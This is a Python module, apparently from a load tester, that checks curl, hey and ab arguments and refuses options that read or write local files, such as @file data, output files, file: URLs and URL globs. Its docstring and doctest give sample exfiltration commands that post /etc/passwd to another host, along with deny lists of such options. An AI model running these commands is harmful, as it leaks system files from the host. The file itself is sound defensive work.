"""Per-program argument rules: an allowed program may not read or write local files.

The allow-list says which programs run; it says nothing about their arguments, and
the default pair can read any file the load tester's user can read and send it
anywhere (``curl -d @/etc/passwd http://elsewhere/``, ``hey -D /etc/passwd``), or
write files (``curl -o``). :func:`check_arguments` refuses those options for the
programs it knows (``curl``, ``hey`` and ``ab``), in every spelling the program
itself accepts and some it does not:

- short and long forms (``-d``, ``--data``);
- a value in the same word (``-d@file``, ``-sd@file`` in a cluster of short
  flags, ``--data=@file``; curl rejects the last one itself, which is no reason to
  let it through);
- Go's single-dash long flags (``hey -D``, ``--D``, ``-D=file``);
- long options abbreviated to a prefix that could mean a refused one (``--upload``);
- ``file:`` URLs, also inside curl's ``{a,b}`` and ``[x-y]`` URL globs.

Pattern checks alone proved leaky (``fi{l}e://``, ``--proto-default file``), so for
curl the protocols are also *enforced*: every curl runs as
``curl -q --proto =http,https --proto-redir =http,https --globoff <args>``, and the
options that would undo that (``--proto*``, ``--next``/``-:``, ``--no-globoff``, and
any prefix of them) are refused, as is any ``{}[]`` in a URL outside an IPv6 host
(percent-encode them: ``%7B %7D %5B %5D``).

Options whose value is only *sometimes* a file are refused only then: ``-d text``
and ``-H 'X-A: 1'`` are fine, ``-d @file``, ``-H @file``, ``-F name=@file``,
``-F name=<file``, ``--data-urlencode name@file``, ``-b file`` (a cookie value has
an ``=``) and ``-w @file`` are not. Output options (``-o``, ``-D``, ``-c``,
``--trace``, ...) may write to ``-`` (standard output) or ``/dev/null`` only, so
the common ``curl -s -o /dev/null -w '%{http_code}'`` keeps working.
``--data-raw`` and ``--form-string`` never read files, so they stay allowed.

The parse is conservative where it cannot be exact: an option it does not know is
assumed to take no value, so the word after it is still checked. That may refuse an
odd but harmless command; it never lets a refused option through as a "value".

Other allowed programs are run with their arguments unchecked: allowing a program
that has no rules here means trusting every caller with its options (the load
tester warns about such programs at startup).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from enum import Enum

from gitflagger.loadtester.commands import ArgumentRefused


class Use(Enum):
    """What an option's value is, as far as local files go."""

    PLAIN = "plain"
    """A value that never names a file."""
    FILE = "file"
    """The option reads or writes a local file whatever its value: always refused."""
    OUTPUT = "output"
    """Writes to a file, refused unless it is ``-`` (standard output) or ``/dev/null``."""
    VARIABLE = "variable"
    """curl ``--variable``: ``name@file`` reads a file, ``%NAME`` imports the environment."""
    FLAG_FILE = "flag-file"
    """A flag (no value) that reads or writes local files: always refused."""
    AT_FILE = "at-file"
    """``@name`` reads the file ``name``."""
    FORM = "form"
    """curl ``-F``: ``name=@file`` and ``name=<file`` read files."""
    NAMED_AT_FILE = "named-at-file"
    """curl ``--data-urlencode``/``--url-query``/``--variable``: ``@file`` or ``name@file``."""
    COOKIE = "cookie"
    """curl ``-b``: a value without ``=`` is a cookie file to read."""
    WRITE_OUT = "write-out"
    """curl ``-w``: ``@file`` reads the format, ``%output{file}`` writes a file."""
    URL = "url"
    """A URL: ``file:`` reads local files."""


@dataclass(frozen=True)
class Rules:
    """One program's options: which take a value, and which touch local files."""

    program: str
    long: dict[str, Use]
    """Long options (without dashes) that take a value or touch files; others are flags."""
    short: dict[str, Use] = field(default_factory=dict)
    """Short options taking a value, or touching files, by letter."""
    short_flag_files: frozenset[str] = frozenset()
    """Short flags (no value) that read or write files."""
    clusters: bool = True
    """Short flags may be combined in one word (``-sSd@f``)."""
    single_dash_long: bool = False
    """Go's flag package: ``-name`` is a long option too, ``-name=value`` is allowed."""
    long_flag_files: frozenset[str] = frozenset()
    """Long flags (no value) that read or write files."""
    urls_at_positions: bool = True
    """Positional words are URLs (checked for ``file:``)."""
    reserved: frozenset[str] = frozenset()
    """Long options the load tester sets itself (:data:`fixed`), or that would undo them."""
    reserved_short: frozenset[str] = frozenset()
    """Short options, by letter, that would undo :data:`fixed` (curl ``-:``, ``--next``)."""
    url_globs: bool = False
    """The program expands ``{a,b}`` and ``[x-y]`` in URLs (curl), which can spell ``file:``."""
    fixed: tuple[str, ...] = ()
    """Arguments put before the request's own, so they hold for every transfer."""


_CURL_VALUED = """
    user-agent:A referer:e connect-timeout max-time:m request:X user:u proxy:x proxy-user:U
    range:r continue-at:C speed-time:y speed-limit:Y time-cond:z quote:Q ftp-port:P
    telnet-option:t retry retry-delay retry-max-time limit-rate max-filesize max-redirs resolve
    connect-to interface dns-servers dns-interface dns-ipv4-addr dns-ipv6-addr ciphers
    tls13-ciphers cert-type key-type pass proxy-pass oauth2-bearer aws-sigv4 request-target
    data-raw form-string expect100-timeout keepalive-time happy-eyeballs-timeout-ms local-port
    noproxy preproxy proxy-ciphers socks4 socks4a socks5 socks5-hostname doh-url ip-tos
    vlan-priority login-options sasl-authzid service-name
    socks5-gssapi-service proxy-service-name mail-from mail-rcpt mail-auth tftp-blksize tlsuser
    tlspassword proxy-tlsuser proxy-tlspassword proxy-tlsauthtype tlsauthtype curves
    proxy-tls13-ciphers parallel-max rate krb delegation trace-config hostpubmd5 hostpubsha256
    haproxy-clientip ech
"""
"""curl options that take a value which is never a file (``long:short``)."""

_CURL_FILES = """
    upload-file:T config:K cert:E key cacert capath crlfile pinnedpubkey proxy-cert proxy-key
    proxy-cacert proxy-capath proxy-crlfile proxy-pinnedpubkey netrc-file output-dir etag-save
    etag-compare hsts alt-svc unix-socket abstract-unix-socket random-file egd-file pubkey
    ssl-sessions knownhosts engine
"""
"""curl options whose value is a file to read or write, whatever it is."""

_CURL_OUTPUTS = "output:o dump-header:D cookie-jar:c stderr trace trace-ascii libcurl"
"""curl options that write to the file named by their value."""


def _curl() -> Rules:
    long: dict[str, Use] = {}
    short: dict[str, Use] = {}

    def add(table: str, use: Use) -> None:
        for entry in table.split():
            name, _, letter = entry.partition(":")
            long[name] = use
            if letter:
                short[letter] = use

    add(_CURL_VALUED, Use.PLAIN)
    add(_CURL_FILES, Use.FILE)
    add(_CURL_OUTPUTS, Use.OUTPUT)
    add("data:d data-ascii data-binary json header:H proxy-header", Use.AT_FILE)
    add("data-urlencode url-query", Use.NAMED_AT_FILE)
    add("variable", Use.VARIABLE)
    add("form:F", Use.FORM)
    add("cookie:b", Use.COOKIE)
    add("write-out:w", Use.WRITE_OUT)
    add("url", Use.URL)
    return Rules(
        program="curl",
        long=long,
        short=short,
        # curl reads no ~/.curlrc (-q, first), fetches only http(s), also after a redirect,
        # and never globs. --next starts a transfer with none of that, so it is refused,
        # like every option that would change the protocols.
        fixed=("-q", "--proto", "=http,https", "--proto-redir", "=http,https", "--globoff"),
        reserved=frozenset({"proto", "proto-redir", "proto-default", "next", "no-globoff"}),
        reserved_short=frozenset(":"),
        url_globs=True,
        # -O/--remote-name and -J write the download to a file; -n reads ~/.netrc.
        short_flag_files=frozenset("OJn"),
        long_flag_files=frozenset(
            {"remote-name", "remote-name-all", "remote-header-name", "netrc", "netrc-optional"}
        ),
    )


def _hey() -> Rules:
    plain = ("n", "c", "q", "z", "o", "m", "H", "t", "A", "d", "T", "a", "x", "host", "cpus")
    long = {name: Use.PLAIN for name in plain}
    long["D"] = Use.FILE  # -D: the request body is read from a file
    return Rules(
        program="hey",
        long=long,
        clusters=False,
        single_dash_long=True,
    )


def _ab() -> Rules:
    short = {letter: Use.PLAIN for letter in "nctsbTvxyzCHAPXmBZf"}
    # -p/-u read the POST/PUT body from a file, -g/-e write result files, -E reads a client cert.
    short.update({letter: Use.FILE for letter in "pugeE"})
    return Rules(program="ab", long={}, short=short)


RULES: dict[str, Rules] = {r.program: r for r in (_curl(), _hey(), _ab())}
"""The programs whose arguments are checked, by name."""

_FILE_URL = re.compile(r"(?:^|[{,\[])\s*file:", re.IGNORECASE)
_GLOB = re.compile(r"[{}\[\]]")
_IPV6_HOST = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.\-]*://)?(?:[^/@\[\]{}]*@)?\[[0-9A-Fa-f:.]+(?:%25[\w.~-]+)?\]")
"""``http://[::1]:8080/``: the one place brackets are not a glob."""
_GLOBBING = (
    "uses curl URL globbing ({} or []), which can spell a file: URL; "
    "percent-encode the characters (%7B %7D %5B %5D)"
)


def has_rules(program: str) -> bool:
    return program in RULES


def fixed_arguments(program: str) -> tuple[str, ...]:
    """What the load tester puts before a request's own arguments (curl: ``-q --proto =http,https ...``)."""
    rules = RULES.get(program)
    return rules.fixed if rules is not None else ()


def check_arguments(program: str, args: Sequence[str]) -> None:
    """Refuse ``args`` when ``program`` would read or write a local file with them.

    >>> check_arguments("curl", ["-s", "-d", "{}", "http://podinfo-canary.test:9898/"])
    >>> try:
    ...     check_arguments("curl", ["-sd@/etc/passwd", "http://x/"])
    ... except ArgumentRefused as err:
    ...     print(err)
    curl option -d with '@/etc/passwd' reads a local file: cmd tasks may not read or write local files
    """
    rules = RULES.get(program)
    if rules is None:
        return
    _Parser(rules).check(list(args))


@dataclass
class _Parser:
    rules: Rules

    def check(self, args: list[str]) -> None:
        i = 0
        options_end = False
        while i < len(args):
            word = args[i]
            i += 1
            if options_end or word == "-" or not word.startswith("-"):
                self._positional(word)
                continue
            if word == "--":
                options_end = True
                continue
            if word.startswith("--") or self.rules.single_dash_long:
                i = self._long(word, args, i)
            else:
                i = self._short_cluster(word, args, i)

    def _positional(self, word: str) -> None:
        if self.rules.urls_at_positions:
            self._judge(Use.URL, "URL", word)

    def _long(self, word: str, args: list[str], i: int) -> int:
        body = word[2:] if word.startswith("--") else word[1:]
        name, eq, joined = body.partition("=")
        shown = f"--{name}" if word.startswith("--") else f"-{name}"
        if name in self.rules.reserved:
            raise _reserved(self.rules, shown)
        use = self._long_use(name, shown)
        if name in self.rules.long_flag_files:
            raise _refused(self.rules, shown, None, "writes or reads local files")
        if use is None:
            if eq:  # an unknown flag given a value: check the value as a file-ish value anyway
                self._judge(Use.URL, shown, joined)
            return i
        if eq:
            self._judge(use, shown, joined)
            return i
        return self._separate_value(use, shown, args, i)

    def _long_use(self, name: str, shown: str) -> Use | None:
        """The option's use; a prefix of refused options counts as refused (curl and Go differ)."""
        rules = self.rules
        if name in rules.long:
            return rules.long[name]
        if name in rules.long_flag_files:
            return None
        if rules.single_dash_long:
            return None  # Go's flag package matches names exactly
        touches = sorted(
            n for n, u in rules.long.items() if u is not Use.PLAIN and n.startswith(name)
        ) + sorted(n for n in rules.long_flag_files | rules.reserved if n.startswith(name))
        if name and touches:
            raise _refused(rules, shown, None, f"may abbreviate --{touches[0]}, which touches local files")
        return None

    def _short_cluster(self, word: str, args: list[str], i: int) -> int:
        letters = word[1:]
        for pos, letter in enumerate(letters):
            shown = f"-{letter}"
            if letter in self.rules.reserved_short:
                raise _reserved(self.rules, shown)
            if letter in self.rules.short_flag_files:
                raise _refused(self.rules, shown, None, "writes or reads local files")
            use = self.rules.short.get(letter)
            if use is None:
                if not self.rules.clusters:
                    return i
                continue
            rest = letters[pos + 1 :]
            if rest:
                self._judge(use, shown, rest)
                return i
            return self._separate_value(use, shown, args, i)
        return i

    def _separate_value(self, use: Use, shown: str, args: list[str], i: int) -> int:
        """Judge the value in the next word; the index after it. No value for a file option: refused."""
        if i >= len(args):
            if use in (Use.FILE, Use.OUTPUT):
                raise _refused(self.rules, shown, None, _WHAT[use])
            return i
        self._judge(use, shown, args[i])
        return i + 1

    def _judge(self, use: Use, shown: str, value: str) -> None:
        check = _JUDGES.get(use)
        if check is not None and check(value):
            raise _refused(self.rules, shown, value, _WHAT[use])
        if use is Use.URL and self.rules.url_globs and _GLOB.search(_IPV6_HOST.sub("", value, count=1)):
            raise _refused(self.rules, shown, value, _GLOBBING)


def _names_file(value: str) -> bool:
    """``@file`` or ``name@file`` (``name=content`` and ``=content`` are literal)."""
    head = value.split("=", 1)[0] if "=" in value else value
    return "@" in head


def _form_file(value: str) -> bool:
    content = value.split("=", 1)[1] if "=" in value else value
    return content.startswith(("@", "<"))


_HARMLESS_OUTPUTS = frozenset({"-", "/dev/null"})

_JUDGES: dict[Use, Callable[[str], bool]] = {
    Use.FILE: lambda value: True,
    Use.OUTPUT: lambda value: value not in _HARMLESS_OUTPUTS,
    Use.VARIABLE: lambda value: _names_file(value) or value.startswith("%"),
    Use.AT_FILE: lambda value: value.startswith("@"),
    Use.NAMED_AT_FILE: _names_file,
    Use.FORM: _form_file,
    Use.COOKIE: lambda value: "=" not in value,
    Use.WRITE_OUT: lambda value: value.startswith("@") or "%output{" in value,
    Use.URL: lambda value: bool(_FILE_URL.search(value)),
}

_WHAT = {
    Use.FILE: "reads or writes a local file",
    Use.OUTPUT: "writes a local file (only - and /dev/null are allowed)",
    Use.VARIABLE: "reads a local file or the load tester's environment",
    Use.AT_FILE: "reads a local file",
    Use.NAMED_AT_FILE: "reads a local file",
    Use.FORM: "reads a local file",
    Use.COOKIE: "reads a local cookie file",
    Use.WRITE_OUT: "reads or writes a local file",
    Use.URL: "reads a local file",
}


_USERINFO = re.compile(r"(://)[^/@\s]*@")


def _reserved(rules: Rules, option: str) -> ArgumentRefused:
    return ArgumentRefused(
        f"{rules.program} option {option} is reserved (the load tester limits {rules.program} to "
        "http and https itself): cmd tasks may not read or write local files"
    )


def _refused(rules: Rules, option: str, value: str | None, what: str) -> ArgumentRefused:
    """The refusal names the option and echoes its value, with any URL credentials (``user:pw@``) masked."""
    if value is not None:
        value = _USERINFO.sub(r"\1***@", value)
    subject = f"{rules.program} option {option}" if option != "URL" else f"{rules.program} URL"
    if value is not None and option != "URL":
        subject += f" with {value!r}"
    elif value is not None:
        subject += f" {value!r}"
    return ArgumentRefused(f"{subject} {what}: cmd tasks may not read or write local files")
